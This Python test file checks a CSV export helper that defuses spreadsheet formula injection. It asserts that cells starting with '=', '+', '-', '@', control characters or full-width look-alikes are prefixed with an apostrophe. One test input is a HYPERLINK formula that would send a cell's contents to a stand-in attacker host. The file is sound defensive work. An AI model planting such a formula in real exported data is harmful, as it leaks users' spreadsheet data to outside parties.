"""CSV that a spreadsheet shows and never calculates."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pager.adapters.csv_cells import as_csv, plain

cells = st.text(st.characters(exclude_characters="\0\r", codec="utf-8"), max_size=30)


@pytest.mark.parametrize(
    "cell",
    [
        *('=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
        *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201"),
    ],
)
def test_what_looks_like_a_formula_is_text(cell: str) -> None:
    assert plain(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "compton", "2026-01-01T00:00", "Ana Ruiz", "'", "1-1", " =1", "a=b"])
def test_what_is_none_stays_as_it_is(cell: str) -> None:
    assert plain(cell) == cell


@given(st.lists(st.lists(cells, min_size=2, max_size=4), max_size=4))
def test_every_cell_comes_back_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    found = list(csv.reader(io.StringIO(as_csv(rows), newline="")))
    assert found == [[plain(cell) for cell in row] for row in rows]
    assert not any(cell[:1] in {*"=+-@", "\t", "\n"} - {""} for row in found for cell in row if cell)
